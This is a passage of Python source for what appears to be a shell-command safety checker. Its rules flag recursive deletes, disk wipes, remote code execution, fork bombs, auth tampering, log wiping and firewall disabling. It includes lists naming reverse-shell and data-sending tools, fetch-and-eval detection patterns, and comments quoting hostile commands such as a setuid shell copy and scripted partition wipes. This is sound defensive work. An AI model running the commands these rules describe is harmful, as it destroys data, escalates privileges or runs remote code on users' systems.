"""One rule per category: each looks at one simple command (words expanded, wrappers peeled, with its
redirections, pipe neighbours and what earlier commands on the line did) and returns a Finding or None.

Rules judge actions, never text: an argument of `grep` or `echo` is data unless it is piped into a
shell, written into a file the system runs (cron, rc files), or run by `bash -c`/`eval` (walk.py turns
those into commands of their own).

Each rule declares the commands it can fire on (`@rule(names=..., redirects=...)`); `rules_for` builds
from those declarations which rules see a command, so most commands (`ls`, `git`, `grep`) meet no rule
at all, and a rule that starts reading a new program cannot work until it declares it
(tests/test_safety_rules.py runs every rule on every command to check the declarations).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import lru_cache

from shelltune.safety import containers, database, engines, packages, paths, system, vcs, verbs
from shelltune.safety.fileops import (
    REMOVERS,
    WRITERS,
    emptied,
    erased_by_writing,
    fed_stdin,
    from_network,
    is_recursive,
    moved_away,
    removes,
    writes,
    written_text,
)
from shelltune.safety.findings import DANGEROUS, Finding, finding, warning
from shelltune.safety.planted import git_planted, planted_commands, sends_local_data
from shelltune.safety.programs import INTERPRETERS, PYTHON, SHELLS, is_interpreter
from shelltune.safety.shellwords import (
    WRAPPERS,
    long_flags,
    operands,
    option_value,
    program,
    short_flags,
    short_option_value,
    skip_options,
    split_wrappers,
)
from shelltune.safety.walk import (
    DECODED,
    DOWNLOAD,
    SECRET,
    Command,
    Context,
    collect,
    downloaded_files,
    executes_stdin,
    input_of,
    interpreter_code,
    parse_find,
    ssh_remote_command,
)

Judge = Callable[[Command, Context], Finding | None]
REVERSE_CLIENTS = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "openssl"})
NETWORK_SENDERS = frozenset(
    {
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "scp",
        "rsync",
        "sftp",
        "ftp",
        "mail",
        "mailx",
        "sendmail",
        "socat",
        "telnet",
    }
)
FIREWALL_UNITS = frozenset(
    {"firewalld", "ufw", "iptables", "ip6tables", "nftables", "apparmor", "netfilter-persistent", "shorewall", "csf",
     "auditd"}
)  # fmt: skip
IPTABLES = re.compile(r"ip6?tables(-legacy|-nft)?")
TLS_OPTIONS = frozenset(
    {
        "--cacert",
        "--cert",
        "--key",
        "-E",
        "--capath",
        "--ca-certificate",
        "--certificate",
        "--private-key",
        "-i",
        "--identity",
    }
)


# ------------------------------------------------------------------ rules and the commands they read


@dataclass(frozen=True)
class Rule:
    """A judge and what it can fire on: command names (exact or by pattern), and any command with output
    redirections, with `VAR=value` assignments, that runs a file downloaded earlier on the line, that
    runs inside a container given access to the host, or (`unknown`) whose program no rule names."""

    judge: Judge
    names: frozenset[str]
    patterns: tuple[re.Pattern[str], ...] = ()
    redirects: bool = False
    assignments: bool = False
    downloaded: bool = False
    contained: bool = False
    unknown: bool = False

    def __call__(self, cmd: Command, ctx: Context) -> Finding | None:
        return self.judge(cmd, ctx)

    def wants(self, name: str, redirects: bool, assignments: bool, downloaded: bool, contained: bool) -> bool:
        return (
            name in self.names
            or any(p.fullmatch(name) for p in self.patterns)
            or (self.redirects and redirects)
            or (self.assignments and assignments)
            or (self.downloaded and downloaded)
            or (self.contained and contained)
            or (self.unknown and not declared(name) and name not in verbs.NOT_RESOURCE_TOOLS)
        )


def rule(
    names: Iterable[str] = (),
    patterns: Iterable[str | re.Pattern[str]] = (),
    *,
    redirects: bool = False,
    assignments: bool = False,
    downloaded: bool = False,
    contained: bool = False,
    unknown: bool = False,
) -> Callable[[Judge], Rule]:
    """Declare a judge with the commands it reads (see `Rule`)."""
    compiled = tuple(re.compile(p) if isinstance(p, str) else p for p in patterns)
    return lambda judge: Rule(judge, frozenset(names), compiled, redirects, assignments, downloaded, contained, unknown)


# ------------------------------------------------------------------ rules


@rule(names={"rm", "find", "rsync", "mv", *REMOVERS})
def rule_recursive_delete(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    if name in REMOVERS:
        whole_tree = is_recursive(cmd) if name == "rm" else cmd.recursive  # shred/unlink only via `find -exec`
        for target in removes(cmd):
            root = paths.critical_root(target, cmd.cwd) if whole_tree else None
            if root:
                return finding("recursive_delete", f"recursively deletes {root}", cmd.text)
            data = paths.data_root(target, cmd.cwd) if whole_tree else None
            if data:
                return finding("recursive_delete", f"deletes {data}, where a service keeps its data", cmd.text)
            every = paths.every_file_in(target, cmd.cwd)
            if every and name == "rm":
                return finding("recursive_delete", f"deletes every file in {every}", cmd.text)
            kept = paths.user_data_root(target, cmd.cwd) if whole_tree else None
            if kept:
                return finding("recursive_delete", f"deletes {kept}", cmd.text)
    if name == "find":
        spec = parse_find(cmd.words)
        root = next((r for r in spec.roots if paths.critical_root(r, cmd.cwd) or paths.data_root(r, cmd.cwd)), None)
        if spec.deletes and not spec.narrowed and root:
            return finding("recursive_delete", f"deletes everything under {root}", cmd.text)
        kept = next((paths.user_data_root(r, cmd.cwd) for r in spec.roots if paths.user_data_root(r, cmd.cwd)), None)
        if spec.deletes and not spec.narrowed and kept:
            return finding("recursive_delete", f"deletes {kept}", cmd.text)
        personal = paths.personal_files_named(cmd.words, spec.roots, spec.names, cmd.cwd) if spec.deletes else None
        if personal:
            return finding("recursive_delete", f"deletes {personal}", cmd.text)
    if name == "rsync" and any(f.startswith("--del") for f in long_flags(cmd.args)):
        ops = operands(cmd.args)
        if len(ops) >= 2 and ":" not in ops[-1] and paths.critical_root(ops[-1], cmd.cwd):
            return finding("recursive_delete", f"syncs over {ops[-1]} deleting what is not in the source", cmd.text)
    if name == "mv" and len(operands(cmd.args)) >= 2:
        moved = [o for o in operands(cmd.args)[:-1] if paths.critical_root(o, cmd.cwd)]
        if moved:
            return finding("recursive_delete", f"moves {moved[0]} away", cmd.text)
    return None


DISK_TOOLS = ("mke2fs", "mkswap", "mkdosfs", "mkntfs", "mkexfatfs", "shred", "blkdiscard", "sgdisk", "sfdisk")
PARTED_OPS = frozenset({"mklabel", "mktable", "mkpart", "rm", "resizepart", "mkpartfs"})
DISKUTIL_OPS = frozenset(
    {"eraseDisk", "eraseVolume", "zeroDisk", "randomDisk", "secureErase", "partitionDisk", "reformat"}
)


# Options that only read the partition table (or save a copy of it). The letters differ between the two
# tools: sfdisk -d dumps, sgdisk -d deletes.
PARTITION_READERS = {
    "sfdisk": frozenset(
        {
            "-d",
            "--dump",
            "-l",
            "--list",
            "-J",
            "--json",
            "-F",
            "--list-free",
            "-V",
            "--verify",
            "-s",
            "--show-size",
            "-g",
            "--show-geometry",
            "-T",
            "--list-types",
        }
    ),
    "sgdisk": frozenset(
        {
            "-p",
            "--print",
            "-i",
            "--info",
            "-b",
            "--backup",
            "-v",
            "--verify",
            "-L",
            "--list-types",
            "-O",
            "--print-mbr",
            "-E",
            "--end-of-largest",
            "-f",
            "--first-aligned-in-largest",
            "-F",
            "--first-in-largest",
            "-D",
            "--display-alignment",
            "-P",
            "--pretend",
        }
    ),
}
SCRIPTED_PARTITIONERS = frozenset({"fdisk", "gdisk", "cgdisk"})
LVM_REMOVERS = frozenset({"pvremove", "vgremove", "lvremove"})


@rule(
    names={
        *WRITERS,
        *DISK_TOOLS,
        *SCRIPTED_PARTITIONERS,
        *LVM_REMOVERS,
        "wipefs",
        "parted",
        "hdparm",
        "diskutil",
        "cryptsetup",
        "mdadm",
        "nvme",
        "zpool",
        "zfs",
        "btrfs",
        "sg_format",
        "badblocks",
        "dmsetup",
        "lvreduce",
        "lvresize",
    },
    patterns=(r"mkfs.*",),
    redirects=True,
)
def rule_disk_wipe(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    for target, verb in writes(cmd):
        if paths.is_device(target) and name != "ln":
            return finding("disk_wipe", f"{verb} the block device {target}", cmd.text)
    unattended = unattended_volume_destruction(cmd)
    if unattended:
        return finding("disk_wipe", unattended, cmd.text)
    volume = system.volume_destruction(cmd)
    if volume:
        return (warning if volume[1] else finding)("disk_wipe", volume[0], cmd.text)
    devices = [a for a in cmd.args if paths.is_device(a)]
    if not devices and name != "diskutil":
        return None
    if name in ("sfdisk", "sgdisk") and only_reads_partitions(cmd):
        return None
    if name.startswith("mkfs") or name in DISK_TOOLS:
        return finding("disk_wipe", f"{name} destroys the data on {devices[0]}", cmd.text)
    if name == "wipefs" and ({"a"} & short_flags(cmd.args) or "--all" in long_flags(cmd.args)):
        return finding("disk_wipe", f"wipes the signatures of {devices[0]}", cmd.text)
    if name == "parted" and (PARTED_OPS & set(cmd.args) or scripted_partitioning(cmd)):
        return finding("disk_wipe", f"rewrites the partition table of {devices[0]}", cmd.text)
    if name in SCRIPTED_PARTITIONERS and scripted_partitioning(cmd):
        return finding(
            "disk_wipe", f"feeds {name} a script that rewrites the partition table of {devices[0]}", cmd.text
        )
    if name == "hdparm" and any(a.startswith("--security-erase") or a.startswith("--trim") for a in cmd.args):
        return finding("disk_wipe", f"erases {devices[0]} in firmware", cmd.text)
    if name == "diskutil" and DISKUTIL_OPS & set(cmd.args):
        return finding("disk_wipe", "diskutil erases a disk", cmd.text)
    return None


def only_reads_partitions(cmd: Command) -> bool:
    """sfdisk -l / -d, sgdisk -p / --backup: every option only reads (sfdisk without options reads a
    new layout from stdin, so it counts as writing)."""
    options = [a.split("=", 1)[0] for a in cmd.args if a.startswith("-")]
    return bool(options) and all(o in PARTITION_READERS[cmd.name] for o in options)


def scripted_partitioning(cmd: Command) -> bool:
    """An interactive partitioner driven by a script that writes: `printf 'o\\nw\\n' | fdisk /dev/sda`,
    a here-document, or a script file (unknown text, assumed to write; `echo p | fdisk` only prints)."""
    if not fed_stdin(cmd) or "l" in short_flags(cmd.args) or "--list" in cmd.args:
        return False
    script = input_of(cmd).text
    if script is None:
        return True
    if cmd.name == "parted":
        return any(op.encode() in script for op in PARTED_OPS)
    return re.search(rb"(^|\n)\s*w\s*(\n|$)", script) is not None


def unattended_volume_destruction(cmd: Command) -> str | None:
    """LVM, LUKS and RAID tools that destroy a volume once its confirmation prompt is answered for them
    (`yes | lvremove`, `echo YES | cryptsetup luksFormat`, `-f`, `--batch-mode`)."""
    name, flags, ops = cmd.name, short_flags(cmd.args), operands(cmd.args)
    forced = fed_stdin(cmd) or bool({"f", "y"} & flags) or bool({"--force", "--yes"} & long_flags(cmd.args))
    if name in LVM_REMOVERS and forced and ops:
        return f"{name} destroys {ops[0]} without asking"
    if (
        name == "cryptsetup"
        and ops[:1]
        and ops[0] in ("luksFormat", "erase", "luksErase")
        and len(ops) > 1
        and (fed_stdin(cmd) or "q" in flags or "--batch-mode" in cmd.args)
    ):
        return f"cryptsetup {ops[0]} destroys the data on {ops[1]} without asking"
    if name == "mdadm" and "--zero-superblock" in cmd.args:
        return "mdadm --zero-superblock erases the RAID metadata of the disks"
    if name == "mdadm" and ("--create" in cmd.args or "C" in flags) and (fed_stdin(cmd) or "--run" in cmd.args):
        return "mdadm --create overwrites the disks it is given without asking"
    return None


STDIN_RUNNERS = frozenset({"source", ".", "at", "batch", "sudo", "doas", "su", "runuser", "awk", "gawk", "mawk"})


POWERSHELLS = frozenset({"pwsh", "powershell", "pwsh.exe", "powershell.exe"})
# Code that evaluates a string: `eval get(URL)` (Perl), `eval URI.open(URL).read` (Ruby), `eval(...)`,
# `new Function(...)`, PowerShell's `iex`. Perl's `eval { ... }` catches exceptions and evaluates nothing.
# Case matters (JavaScript's `function(` defines, `new Function(` evaluates), except in PowerShell. `system(`
# runs a command line, not code: it counts only with a download API inside its own parentheses
# (`system(get(URL))`), never for a URL in the command it runs (`os.system('git clone https://...')`).
EVALUATES = re.compile(
    r"\b(exec|eval|instance_eval|class_eval)\s*\(|\bnew\s+Function\s*\(|\beval\s+(?!\{)[\w$:]"
    r"|(?i:\b(iex|Invoke-Expression)\b)|\bsystem\s*\(\s*(?:[\w:.]+\s*\(\s*)?(?:get|URI\.open|open)\s*\(",
)
# What fetches: a URL literal, or a download API (the URL may sit in a variable). A bare `get(`/`fetch(` is
# LWP::Simple's or the browser API's; a method call (`os.environ.get(`, `ENV.fetch(`) fetches nothing.
FETCHES = re.compile(
    r"https?://|\bLWP\b|HTTP::Tiny|(?<![.\w])get\s*\(|getstore|URI\.open|open-uri|Net::HTTP|file_get_contents"
    r"|curl_exec|\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b|DownloadString|WebClient|https?\.get"
    r"|(?<![.\w])fetch\s*\(",
    re.I,
)


@rule(
    names={*SHELLS, *INTERPRETERS, *STDIN_RUNNERS, *POWERSHELLS, "eval", "ssh", "crontab"},
    patterns=(PYTHON,),
    downloaded=True,
)
def rule_remote_code(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    runs_code = name in SHELLS or is_interpreter(cmd.name) or name in ("source", ".", "eval")
    if executes_stdin(cmd) and input_of(cmd).kind == "download":
        return finding("remote_code_execution", f"pipes a download into {name}", cmd.text)
    if name == "crontab" and operands(cmd.args)[-1:] in (["-"], []) and input_of(cmd).kind == "download":
        return finding("persistence", "installs a crontab downloaded from the network", cmd.text)
    if name == "ssh" and input_of(cmd).kind == "download" and remote_reads_stdin(cmd):
        return finding("remote_code_execution", "pipes a download into a shell on another host", cmd.text)
    if runs_code and any(DOWNLOAD in a for a in cmd.args):
        return finding("remote_code_execution", f"{name} runs code fetched from the network", cmd.text)
    script = next((a for a in cmd.args if not a.startswith("-")), None) if runs_code else None
    if script and script.removeprefix("./") in ctx.downloaded:
        return finding("remote_code_execution", f"runs {script}, downloaded earlier on the line", cmd.text)
    if cmd.words and cmd.words[0].removeprefix("./") in ctx.downloaded:
        return finding("remote_code_execution", f"executes {cmd.words[0]}, downloaded earlier on the line", cmd.text)
    code = interpreter_code(cmd) if is_interpreter(cmd.name) else None
    if name in POWERSHELLS:
        code = " ".join(a for a in cmd.args if not re.fullmatch(r"-\w+", a))
    setup = " ".join(a for a in cmd.args if re.match(r"-[rM]", a))  # `ruby -ropen-uri`, `perl -MLWP::Simple`
    if code and FETCHES.search(setup + " " + code) and EVALUATES.search(code):
        return finding("remote_code_execution", f"{name} fetches code from the network and runs it", cmd.text)
    if code and RUNS_FETCHED_OUTPUT.search(code):
        return finding("remote_code_execution", f"{name} runs what a download prints as a command", cmd.text)
    return None


# A command run from the output of a downloader: Lua's `os.execute(io.popen("curl URL"):read("*a"))`,
# `system(`curl URL`)`, `eval(qx{wget -qO- URL})`.
RUNS_FETCHED_OUTPUT = re.compile(
    r"\b(execute|system|exec|eval|load|loadstring)\s*\(\s*(io\.popen|popen|os\.popen|qx|%x|`)\s*[({]?\s*[\"'`]?\s*"
    r"(curl|wget|fetch)\b"
)


def remote_reads_stdin(cmd: Command) -> bool:
    """`ssh HOST sh`, `ssh HOST sudo bash -s`: the remote command is a shell reading the piped input."""
    remote = ssh_remote_command(cmd.args)
    words = split_wrappers(remote.split())[1] if remote else []
    return (
        bool(words)
        and (program(words[0]) in SHELLS or is_interpreter(program(words[0])))
        and (len(words) == 1 or words[1] in ("-", "-s"))
    )


@rule(names={*SHELLS, *INTERPRETERS, *STDIN_RUNNERS, "eval"}, patterns=(PYTHON,))
def rule_obfuscated(cmd: Command, ctx: Context) -> Finding | None:
    if executes_stdin(cmd) and input_of(cmd).kind == "decoded":
        return finding("obfuscated_execution", f"pipes decoded data it cannot read into {cmd.name}", cmd.text)
    if (cmd.name in SHELLS or cmd.name == "eval") and any(DECODED in a for a in cmd.args):
        return finding("obfuscated_execution", f"{cmd.name} runs decoded data it cannot read", cmd.text)
    return None


def kill_targets(cmd: Command) -> tuple[str | None, list[str]]:
    args, signal = cmd.args, None
    if args[:1] in (["-s"], ["-n"]) and len(args) > 1:
        signal, args = args[1], args[2:]
    elif args and args[0].startswith("-") and args[0] not in ("--", "-l", "-L"):
        signal, args = args[0][1:], args[1:]
    if args[:1] == ["--"]:
        args = args[1:]
    return signal, args


@rule(names={"kill", "killall5", "pkill", "killall", *INTERPRETERS}, patterns=(PYTHON,))
def rule_fork_bomb(cmd: Command, ctx: Context) -> Finding | None:
    if cmd.name == "kill" and cmd.args[:1] not in (["-l"], ["-L"]):
        signal, pids = kill_targets(cmd)
        if "-1" in pids:
            return finding("fork_bomb", "signals every process the user can reach (pid -1)", cmd.text)
        if "1" in pids and (signal or "TERM").upper().removeprefix("SIG") not in ("0", "HUP", "1", "USR1", "USR2"):
            return finding("fork_bomb", "kills init (pid 1), which takes the whole system down", cmd.text)
    if cmd.name == "killall5":
        return finding("fork_bomb", "killall5 signals every process", cmd.text)
    if cmd.name in ("pkill", "killall") and kills_every_root_process(cmd):
        return finding("fork_bomb", f"{cmd.name} kills every process of root, init and sshd among them", cmd.text)
    code = interpreter_code(cmd) if is_interpreter(cmd.name) else None
    if code and re.search(
        r"\bfork\b\s*(while|until)\b|\b(while|until)\b\s*\(?\s*(1|true|True)\b.*\bfork\b|\bloop\s*(\{|do)\s*fork\b",
        code,
    ):
        return finding("fork_bomb", f"{cmd.name} forks in an endless loop", cmd.text)
    return None


def kills_every_root_process(cmd: Command) -> bool:
    """`pkill -9 -u root`, `killall -u root`: no pattern, so every process the user owns; for root, all
    that keep the machine up. A pattern (`pkill -u root nginx`) or a signal that only asks is narrower."""
    values = frozenset({"-u", "--euid", "-U", "--uid", "-g", "-G", "-s", "-t", "-P", "--signal", "-o", "-y"})
    user = option_value(cmd.args, "-u", "--euid", "-U", "--uid", "--user")
    patterns = operands(cmd.args, values)
    return user in ("root", "0") and not patterns and "-0" not in cmd.args and "-HUP" not in cmd.args


def mode_is_dangerous(mode: str) -> bool:
    """World-writable or all-permissions-removed modes (777, o+w, a=, 000)."""
    if re.fullmatch(r"[0-7]{3,4}", mode):
        return mode[-1] in "2367" or int(mode[-3:]) == 0
    for clause in mode.split(","):
        match = re.fullmatch(r"([ugoa]*)([-+=])([rwxXst]*)", clause)
        if not match:
            continue
        who, op, perms = match.group(1) or "a", match.group(2), match.group(3)
        if ("o" in who or "a" in who) and op in "+=" and "w" in perms:
            return True
        if who in ("a", "ugo") and op == "=" and not perms:
            return True
    return False


def mode_sets_id(mode: str) -> bool:
    if re.fullmatch(r"[0-7]{4}", mode):
        return mode[0] in "246"
    return re.search(r"[+=][rwxXt]*s", mode) is not None


def mode_clears_setuid(mode: str) -> bool:
    """An absolute mode without the setuid bit (`644`, `0755`, `u=rwx`), or the bit removed (`u-s`, `-s`)."""
    if re.fullmatch(r"[0-7]{3}", mode) or re.fullmatch(r"[0-7]{4}", mode):
        return len(mode) == 3 or mode[0] in "0123"
    return any(
        re.fullmatch(r"[ua]*-[rwxXt]*s[rwxXst]*", clause) or re.fullmatch(r"[ua]*=[rwxXt]*", clause)
        for clause in mode.split(",")
    )


def mode_opens(mode: str, directory: bool) -> bool:
    """Whether `mode` lets group or others write (or, on a private file, read) what it is given: `go+rwx`,
    `o+r`, `644` on a key. `go-rwx`, `600` and `700` close it."""
    if re.fullmatch(r"[0-7]{3,4}", mode):
        group, other = int(mode[-2]), int(mode[-1])
        mask = 2 if directory else 6  # a readable directory lists names; a readable key is the key
        return bool((group | other) & mask)
    for clause in mode.split(","):
        match = re.fullmatch(r"([ugoa]*)([-+=])([rwxXst]*)", clause)
        if not match or match.group(2) == "-":
            continue
        who, perms = match.group(1), match.group(3)
        opened = "w" in perms or ("r" in perms and not directory)
        if opened and (who == "" and "w" not in perms or set(who) & set("goa")):
            return True
    return False


def mode_exposes_secret(mode: str, target: str) -> bool:
    if mode_is_dangerous(mode):
        return True
    secret = re.search(r"(shadow|sudoers)", target) is not None
    if re.fullmatch(r"[0-7]{3,4}", mode):
        return secret and mode[-1] in "4567"
    return secret and re.search(r"(^|,)[a]*o?[+=][wxXst]*r", mode) is not None and "o" in mode


@rule(names={"chmod", "chown", "chgrp", "setfacl", "install"})
def rule_permissions(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    if name == "install":
        return setuid_install(cmd)
    if name not in ("chmod", "chown", "chgrp", "setfacl"):
        return None
    recursive = "R" in short_flags(cmd.args) or "--recursive" in long_flags(cmd.args) or cmd.recursive
    ops = operands(cmd.args, frozenset({"-m", "-x", "-M", "-X", "--modify", "--remove"}))
    mode = ops[0] if ops and name == "chmod" else ""
    targets = ops[1:] if name in ("chmod", "chown", "chgrp") else ops
    if name == "chmod":  # a mode may look like an option: `chmod -s FILE`, `chmod -x FILE`
        mode, targets = system.chmod_mode(cmd.args)
    for target in targets:
        if name == "chmod" and paths.is_auth_file(target, cmd.cwd) and mode_exposes_secret(mode, target):
            return finding("auth_tampering", f"chmod {mode} exposes {target}", cmd.text)
        if name == "chmod" and mode_sets_id(mode) and setuid_matters(target) and not paths.needs_setuid(target):
            return finding("system_permissions", f"makes {target} setuid/setgid", cmd.text)
        if name == "chmod" and paths.is_root_socket(target) and mode_is_dangerous(mode) and mode not in ("000", "0000"):
            return finding("privilege_escalation", f"chmod {mode} lets every user drive {target}: root", cmd.text)
        if name == "chmod" and paths.needs_setuid(target) and mode_clears_setuid(mode):
            what = target.rsplit("/", 1)[-1]
            return finding(
                "system_breakage", f"chmod {mode} takes the setuid bit off {target}: {what} stops working", cmd.text
            )
        secret = paths.private_path(target, cmd.cwd)
        if name == "chmod" and secret and mode_opens(mode, secret.endswith("/") or recursive):
            return finding("system_permissions", f"chmod {mode} lets other users read or change {target}", cmd.text)
        root = paths.critical_root(target, cmd.cwd)
        if root is None:
            continue
        if paths.is_home(root):
            if name == "chmod" and recursive and mode_is_dangerous(mode):
                return finding("system_permissions", f"chmod -R {mode} on the home directory {root}", cmd.text)
            owner = ops[0] if ops and name in ("chown", "chgrp") else ""
            if recursive and owner and not paths.owns_home(owner, root):
                return finding("system_permissions", f"{name} -R hands the home directory {root} to {owner}", cmd.text)
        elif name in ("chown", "chgrp") and root in paths.SERVICE_ROOTS:
            continue  # handing a web root or /usr/local to a service or a user is routine
        elif recursive or (root in paths.TOP_LEVEL and (name != "chmod" or mode_is_dangerous(mode))):
            return finding(
                "system_permissions", f"{name} {'-R ' if recursive else ''}on the system path {root}", cmd.text
            )
    return None


def setuid_matters(path: str) -> bool:
    """A setuid bit that hands out root: on a system program, or on a file in a world-writable or hidden
    place (how a copied shell is kept: `cp /bin/bash /tmp/x && chmod +s /tmp/x`)."""
    return paths.is_system_binary(path) or paths.is_temporary_executable(path)


def setuid_install(cmd: Command) -> Finding | None:
    mode = option_value(cmd.args, "-m", "--mode") or ""
    ops = operands(cmd.args, frozenset({"-m", "--mode", "-o", "--owner", "-g", "--group", "-t", "-S"}))
    if mode_sets_id(mode) and len(ops) >= 2 and setuid_matters(ops[-1]):
        return finding("system_permissions", f"installs {ops[-1]} setuid/setgid ({mode})", cmd.text)
    return None


# The single-letter options of useradd/usermod that take a value (so `-ou 0` reads as -o, -u 0).
ACCOUNT_VALUE_LETTERS = {"useradd": "bcdefgGkKpsuZRP", "usermod": "cdefgGlpsuRPvVwWZ", "adduser": ""}
SSHD_CONFIG = re.compile(r"^/etc/ssh/sshd_config(\.d/.*)?$")
SSHD_WEAKENING = re.compile(r"\b(PermitRootLogin\s+yes|PermitEmptyPasswords\s+yes)\b")


@rule(
    names={*WRITERS, *REMOVERS, "passwd", "usermod", "useradd", "adduser", "chpasswd", "visudo", "curl", "wget"},
    redirects=True,
)
def rule_auth(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    for target, verb in writes(cmd):
        if paths.is_auth_file(target, cmd.cwd):
            return finding("auth_tampering", f"{verb} {target}", cmd.text)
    for target in removes(cmd):
        if paths.is_auth_file(target, cmd.cwd):
            return finding("auth_tampering", f"removes {target}", cmd.text)
    for target in moved_away(cmd):
        if paths.is_account_database(target, cmd.cwd):
            return finding("auth_tampering", f"moves {target} away: no one can log in or use sudo", cmd.text)
    planted = planted_access(cmd, ctx)
    if planted:
        return finding("auth_tampering", planted, cmd.text)
    if name == "passwd" and ("d" in short_flags(cmd.args) or "--delete" in long_flags(cmd.args)):
        return finding("auth_tampering", "removes an account's password", cmd.text)
    if name in ACCOUNT_VALUE_LETTERS:
        if option_value(cmd.args, "-p", "--password") == "":
            return finding("auth_tampering", f"{name} sets an empty password", cmd.text)
        uid = option_value(cmd.args, "--uid") or short_option_value(cmd.args, "u", ACCOUNT_VALUE_LETTERS[name])
        if uid == "0":
            return finding("auth_tampering", f"{name} gives an account uid 0 (root)", cmd.text)
    if name == "visudo" and fed_stdin(cmd) and "c" not in short_flags(cmd.args):
        return finding("auth_tampering", "writes its input into the sudoers file through a scripted editor", cmd.text)
    if name == "chpasswd":
        text = input_of(cmd).text or b""
        if re.search(rb"(^|\n)root:", text):
            return finding("auth_tampering", "sets the root password", cmd.text)
    return None


def planted_access(cmd: Command, ctx: Context) -> str | None:
    """Access granted to someone else: a key from the network in authorized_keys, sshd opened to root."""
    keys_files = [t for t, _ in writes(cmd) if paths.is_authorized_keys(t)]
    if keys_files and from_network(cmd, ctx):
        return f"adds a key downloaded from the network to {keys_files[0]}: whoever controls it can log in"
    downloaded_keys = [f for f in downloaded_files(cmd) if paths.is_authorized_keys(f)]
    if downloaded_keys:
        return f"replaces {downloaded_keys[0]} with a download: whoever controls it can log in"
    for target, _ in writes(cmd):
        normal = paths.normalize(target, cmd.cwd) or ""
        weakened = SSHD_WEAKENING.search(" ".join(cmd.words) + " " + (written_text(cmd) or ""))
        if SSHD_CONFIG.match(normal) and weakened:
            return f"sets `{weakened.group(1)}` in {target}"
    return None


@rule(
    names={*WRITERS, "shutdown", "reboot", "halt", "poweroff", "init", "telinit", "systemctl", "loginctl"},
    redirects=True,
)
def rule_shutdown(cmd: Command, ctx: Context) -> Finding | None:
    name, ops = cmd.name, operands(cmd.args)
    if name == "shutdown" and not ({"c", "k"} & short_flags(cmd.args)):
        return finding("shutdown", "shuts the machine down", cmd.text)
    if name in ("reboot", "halt", "poweroff"):
        return finding("shutdown", f"{name} stops the machine", cmd.text)
    if name in ("init", "telinit") and ops[:1] in (["0"], ["6"]):
        return finding("shutdown", f"{name} {ops[0]} halts or reboots", cmd.text)
    if name in ("systemctl", "loginctl"):
        if {"poweroff", "reboot", "halt", "kexec"} & set(ops):
            return finding("shutdown", f"{name} stops the machine", cmd.text)
        if {"isolate", "start"} & set(ops) and {"poweroff.target", "reboot.target", "halt.target"} & set(ops):
            return finding("shutdown", "switches to the poweroff/reboot target", cmd.text)
    if any(target == "/proc/sysrq-trigger" for target, _ in writes(cmd)):
        return finding("shutdown", "writes to /proc/sysrq-trigger (immediate reboot or power-off)", cmd.text)
    return None


HISTORY_VARIABLES = {"HISTFILE": ("", "/dev/null"), "HISTSIZE": ("0",), "HISTFILESIZE": ("0",)}


@rule(names={*WRITERS, *REMOVERS, "history", "unset", "set", "find", "journalctl"}, redirects=True, assignments=True)
def rule_history_logs(cmd: Command, ctx: Context) -> Finding | None:
    name = cmd.name
    if name == "history" and "c" in short_flags(cmd.args):
        return finding("history_log_wipe", "clears the shell history", cmd.text)
    for variable, value in cmd.assignments:
        if value in HISTORY_VARIABLES.get(variable, ()):
            return finding("history_log_wipe", f"sets {variable}={value or '(empty)'}: history is not kept", cmd.text)
    if name == "unset" and "HISTFILE" in cmd.args or name == "set" and cmd.args[:2] == ["+o", "history"]:
        return finding("history_log_wipe", "turns shell history off", cmd.text)
    recursive = bool({"r", "R"} & short_flags(cmd.args)) or cmd.recursive
    for target in removes(cmd) + erased_by_writing(cmd):
        if paths.is_history_file(target):
            return finding("history_log_wipe", f"erases the shell history {target}", cmd.text)
        log = paths.log_target(target, cmd.cwd)
        every = target.endswith("*") or target.rpartition("/")[2] in paths.CURRENT_LOG_GLOBS
        if log and (log != paths.LOG_DIR or recursive or every or name == "truncate"):
            return finding("history_log_wipe", f"erases {log}", cmd.text)
    if name == "find":
        spec = parse_find(cmd.words)
        if spec.deletes and not spec.narrowed and any(paths.log_target(r) for r in spec.roots):
            return finding("history_log_wipe", "deletes every file under /var/log", cmd.text)
    if name == "journalctl":
        age = option_value(cmd.args, "--vacuum-time")
        size = option_value(cmd.args, "--vacuum-size")
        if (
            age
            and re.fullmatch(r"\d+(s|sec|seconds?|m|min|minutes?)?", age)
            or size
            and re.fullmatch(r"\d+[Kk]?", size)
        ):
            return finding("history_log_wipe", "vacuums the journal down to nothing", cmd.text)
    return None


@rule(
    names={
        *WRITERS,
        "nft",
        "ufw",
        "systemctl",
        "service",
        "setenforce",
        "aa-teardown",
        "apparmor_teardown",
        "netsh",
        "pfctl",
        "defaults",
        "socketfilterfw",
    },  # fmt: skip
    patterns=(IPTABLES,),
    redirects=True,
)
def rule_firewall(cmd: Command, ctx: Context) -> Finding | None:
    name, ops = cmd.name, operands(cmd.args)
    if IPTABLES.fullmatch(name) and ("F" in short_flags(cmd.args) or "--flush" in long_flags(cmd.args)):
        return finding("firewall_disable", "flushes the firewall rules", cmd.text)
    if name == "nft" and "flush" in ops and "ruleset" in ops:
        return finding("firewall_disable", "flushes the nftables ruleset", cmd.text)
    if name == "ufw" and ops[:1] in (["disable"], ["reset"]):
        return finding("firewall_disable", f"ufw {ops[0]} turns the firewall off", cmd.text)
    units = {o.removesuffix(".service") for o in ops}
    if name in ("systemctl", "service") and {"stop", "disable", "mask", "kill"} & units and FIREWALL_UNITS & units:
        return finding("firewall_disable", f"stops {sorted(FIREWALL_UNITS & units)[0]}", cmd.text)
    if name == "setenforce" and ops[:1] and ops[0].lower() in ("0", "permissive"):
        return finding("firewall_disable", "turns SELinux enforcement off", cmd.text)
    if name in ("aa-teardown", "apparmor_teardown"):
        return finding("firewall_disable", "unloads every AppArmor profile", cmd.text)
    if name == "netsh" and "advfirewall" in cmd.args and "off" in [a.lower() for a in cmd.args]:
        return finding("firewall_disable", "turns the Windows firewall off", cmd.text)
    reason = firewall_opened(cmd)
    if reason:
        return finding("firewall_disable", reason, cmd.text)
    if any(t == "/etc/selinux/config" for t, _ in writes(cmd)):
        content = " ".join(cmd.words) + (written_text(cmd) or "")
